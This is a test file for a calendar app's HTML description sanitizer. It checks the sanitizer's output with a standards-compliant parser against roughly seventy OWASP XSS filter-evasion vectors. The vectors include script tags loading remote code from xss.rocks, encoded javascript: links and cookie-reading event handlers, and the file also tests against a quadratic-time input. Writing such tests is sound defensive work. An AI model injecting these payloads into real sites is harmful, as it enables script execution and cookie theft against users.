import { parseFragment } from 'parse5';
import { escapeHtml, htmlToText, looksLikeHtml, sanitizeDescription } from '../../shared/calendar/html';
import { cpuMsOf } from '../helpers/cpu';

/*
 * The description sanitizer, checked the way a browser would read its output: parse5 (the
 * WHATWG HTML parser) reads what we store, and nothing in it may run script: no element but
 * the allowlist, no attribute but a link's href/title/rel/target, no href but http(s),
 * mailto and tel. The hostile inputs are the OWASP XSS Filter Evasion Cheat Sheet's
 * vectors, written here as they appear there.
 */

const ALLOWED_TAGS = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'a', 'ul', 'ol', 'li', 'blockquote', 'code', 'pre', 'h2', 'h3', 'h4', 'hr', 'span']);

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  value?: string;
}

/** What is unsafe in `html` as a browser parses it (empty when nothing is). */
function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Node) => {
    if (node.tagName) {
      if (!ALLOWED_TAGS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs ?? []) {
        if (node.tagName !== 'a' || !['href', 'title', 'rel', 'target'].includes(name)) found.push(`${node.tagName}[${name}]`);
        // Browsers drop ASCII whitespace and control characters inside a scheme (WHATWG URL).
        const url = value.replace(/[\u0000-\u0020]/g, ''); // eslint-disable-line no-control-regex
        if (name === 'href' && !/^(https?|mailto|tel):/i.test(url)) found.push(`href=${value}`);
      }
      if (node.tagName === 'a' && (node.attrs ?? []).some((a) => a.name === 'href') && node.attrs?.find((a) => a.name === 'rel')?.value !== 'noopener noreferrer nofollow') found.push('a without rel=noopener');
    }
    if (node.nodeName === '#comment') found.push(`<!--${node.value}-->`);
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parseFragment(html) as unknown as Node);
  return found;
}

/** OWASP XSS Filter Evasion Cheat Sheet. */
const OWASP_VECTORS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>',
  '<a href="jav\tascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">Click Me</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(\'XSS\')>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<A HREF="//www.google.com/">XSS</A>',
  '<A HREF="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">XSS</A>',
  '<A HREF="vbscript:msgbox(\'XSS\')">XSS</A>',
  '<a href="  JaVaScRiPt:alert(1)" title="x" onclick="alert(2)">x</a>',
  '<p style="x" class="y" id="z" onclick="alert(1)">styled</p><span onmouseover="alert(1)">s</span>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
];

describe('sanitizeDescription', () => {
  it.each(OWASP_VECTORS)('leaves nothing that runs script of OWASP vector %s', (vector) => {
    const out = sanitizeDescription(vector);
    expect(unsafeParts(out)).toEqual([]);
    // Its text, read back for emails and ICS, holds no markup either (an escaped `<` stays text).
    expect(unsafeParts(escapeHtml(htmlToText(out)))).toEqual([]);
  });

  it('keeps every tag of the allowlist as it is', () => {
    const html =
      '<h2>T</h2><h3>U</h3><h4>V</h4><p><strong>b</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>s</s> <code>c</code> <span>sp</span><br />x</p>' +
      '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>q</blockquote><pre>p</pre><hr />';
    expect(sanitizeDescription(html)).toBe(html);
    expect(unsafeParts(html)).toEqual([]);
  });

  it('keeps links of http, https, mailto and tel, opening apart from the page (rel and target are ours)', () => {
    const rel = 'rel="noopener noreferrer nofollow" target="_blank"';
    expect(
      sanitizeDescription('<a href="https://example.com/x" title="t">l</a> <a href="http://e.com" rel="opener" target="_self">m</a> <a href="mailto:a@b.example">n</a> <a href="tel:+15550100">o</a>'),
    ).toBe(`<a href="https://example.com/x" title="t" ${rel}>l</a> <a href="http://e.com" ${rel}>m</a> <a href="mailto:a@b.example" ${rel}>n</a> <a href="tel:+15550100" ${rel}>o</a>`);
    // A protocol-relative link would take the page's scheme: dropped (the text stays).
    expect(sanitizeDescription('<a href="//evil.example/x">p</a>')).toBe(`<a ${rel}>p</a>`);
    for (const scheme of ['javascript', 'data', 'vbscript', 'ftp', 'file', 'blob']) expect(sanitizeDescription(`<a href="${scheme}:x">p</a>`)).toBe(`<a ${rel}>p</a>`);
  });

  it('makes paragraphs of plain text, escaped, whatever its line ends', () => {
    expect(sanitizeDescription('One\r\nline two\r\n\r\nThree <x> & "q" \'s\rfour')).toBe('<p>One<br>line two</p><p>Three &lt;x&gt; &amp; &quot;q&quot; &#39;s<br>four</p>');
    expect(sanitizeDescription('a\n\n\n\nb \n\n  c')).toBe('<p>a</p><p>b</p><p>c</p>');
    expect(sanitizeDescription('a\r\rb')).toBe('<p>a</p><p>b</p>');
    expect(sanitizeDescription('  \n padded \n ')).toBe('<p>padded</p>');
    expect(sanitizeDescription('if a < b and c > d')).toBe('<p>if a &lt; b and c &gt; d</p>');
  });

  it('is empty for nothing but whitespace', () => {
    for (const blank of ['', ' ', '\n\n', '\r\n \t']) expect(sanitizeDescription(blank)).toBe('');
  });

  it('trims what the sanitizer keeps of HTML', () => {
    expect(sanitizeDescription('<p>a</p>\n\n<script>x</script>\n')).toBe('<p>a</p>');
    expect(sanitizeDescription('<script>alert(1)</script> ')).toBe('');
  });
});

describe('looksLikeHtml', () => {
  it('is HTML when a tag of any family is closed: <x>, <x attr>, <x/>, </x>, any case', () => {
    const tags = ['p', 'br', 'div', 'span', 'a', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'ul', 'ol', 'li', 'h1', 'h6', 'blockquote', 'pre', 'code', 'hr', 'img', 'script', 'style', 'iframe', 'table', 'td', 'font', 'svg', 'math', 'object', 'embed', 'link', 'meta', 'base', 'details', 'summary'];
    for (const tag of tags) {
      for (const text of [`<${tag}>`, `x <${tag} a="1">`, `<${tag}/>`, `<${tag} />`, `</${tag}>`, `<${tag.toUpperCase()}>`, `<${tag}\n>`, `<${tag}\ta>`]) expect([text, looksLikeHtml(text)]).toEqual([text, true]);
    }
  });

  it('is text for a tag start that nothing closes, or a name that is no tag', () => {
    for (const text of ['a < b', '<x>', '<paragraph>', '<p', '<p class="x"', 'a > b <p c', '<pre', 'I <3 <br', '<h7>', '<h0>', '< p>', '<pp>', '<p-x>', '<bb>', '<//p>', '<p:x>', '<br//>', 'x<p', '']) expect([text, looksLikeHtml(text)]).toEqual([text, false]);
  });

  it('decides by the first tag start: a `>` anywhere after it closes it', () => {
    expect(looksLikeHtml('<p class="x"\ndata-y="<">')).toBe(true);
    expect(looksLikeHtml('A <p title="1 < 2"> z')).toBe(true);
    expect(looksLikeHtml('> before <p')).toBe(false);
    expect(looksLikeHtml('<p x <b y>')).toBe(true);
  });
});

describe('escapeHtml', () => {
  it('writes & < > " \' as entities, each alone and together, and nothing else', () => {
    expect(escapeHtml('&')).toBe('&amp;');
    expect(escapeHtml('<')).toBe('&lt;');
    expect(escapeHtml('>')).toBe('&gt;');
    expect(escapeHtml('"')).toBe('&quot;');
    expect(escapeHtml("'")).toBe('&#39;');
    expect(escapeHtml(`<a href="x" title='y'>&amp;</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;');
    expect(escapeHtml('&&<<')).toBe('&amp;&amp;&lt;&lt;');
    expect(escapeHtml('plain text, é ü 日本 `$/\\')).toBe('plain text, é ü 日本 `$/\\');
    expect(escapeHtml('')).toBe('');
  });

  it('is read back by an HTML parser as the text it was', () => {
    const text = `<script>alert("x")</script> & 'q' a<b>c`;
    const fragment = parseFragment(`<p title="${escapeHtml(text)}">${escapeHtml(text)}</p>`) as unknown as Node;
    const p = (fragment.childNodes as Node[])[0];
    expect(p.attrs).toEqual([{ name: 'title', value: text }]);
    expect((p.childNodes as Node[]).map((n) => n.value)).toEqual([text]);
  });
});

describe('htmlToText', () => {
  it('reads paragraphs, breaks, headings, quotes and code as lines a blank line apart', () => {
    expect(htmlToText('<p>One<br>two<BR/>three<br />four</p><h2>H</h2><h6>six</h6><blockquote>q</blockquote><pre>code</pre><p>end</p>')).toBe('One\ntwo\nthree\nfour\n\nH\n\nsix\n\nq\n\ncode\n\nend');
    expect(htmlToText('<H1>a</H1><P>b</P>')).toBe('a\n\nb');
  });

  it('reads lists as "- item" lines, a paragraph apart from the text around them', () => {
    expect(htmlToText('<p>One<br>two</p><ul><li>a</li><li>b &amp; c</li></ul><p>After</p>')).toBe('One\ntwo\n\n- a\n- b & c\n\nAfter');
    expect(htmlToText('Before<ol class="x"><li value="2">one</li></ol>')).toBe('Before\n\n- one');
    expect(htmlToText('Before<UL><LI>x</LI></UL>after')).toBe('Before\n\n- x\n\nafter');
    expect(htmlToText('<ol><li>a</li></ol><ul><li>b</li></ul>')).toBe('- a\n\n- b');
  });

  it('leaves tags whose names only start like a list or item alone', () => {
    expect(htmlToText('<p>a<link>b<oligo>c<ulx>d</p>')).toBe('abcd');
  });

  it("gives back the text's characters for their entities", () => {
    expect(htmlToText('<p>&amp; &lt; &gt; &quot; &#39; &amp;lt;</p>')).toBe('& < > " \' &lt;');
    expect(htmlToText('&amp;&amp; &lt;&lt; &gt;&gt; &quot;&quot; &#39;&#39;')).toBe('&& << >> "" \'\'');
  });

  it('drops every tag and what script and style hold, keeping at most one blank line', () => {
    expect(htmlToText('<p>a</p><script>alert(1)</script><style>p{}</style><p>b</p>')).toBe('a\n\nb');
    expect(htmlToText('<p>a</p>\n\n\n\n<p>b</p>\n\n')).toBe('a\n\nb');
    expect(htmlToText('  <p> a </p>  ')).toBe('a');
  });

  it('reads back what sanitizeDescription stored from text', () => {
    const text = 'Agenda:\nintro & <welcome>\n\n"Q&A" at 5 > 4\nbye';
    expect(htmlToText(sanitizeDescription(text))).toBe(text);
  });
});

describe('htmlToText on HTML a browser would read alike', () => {
  it('keeps a `>` of the text after a list or item tag, and collapses three line ends to two', () => {
    expect(htmlToText('<ul>1 > 0</ul>')).toBe('1 > 0');
    expect(htmlToText('<ul><li>1 > 0</li></ul>')).toBe('- 1 > 0');
    expect(htmlToText('a<br><br><br>b')).toBe('a\n\nb');
  });

  it('reads a description of list and item starts that never close in linear time', () => {
    // With `[^>]*` in place of `[^<>]*`, each `<ol ` would be read to the end of the text.
    for (const start of ['<ol ', '<li ']) {
      const hostile = start.repeat(25_000);
      expect(cpuMsOf(() => htmlToText(hostile))).toBeLessThan(400);
    }
  });
});
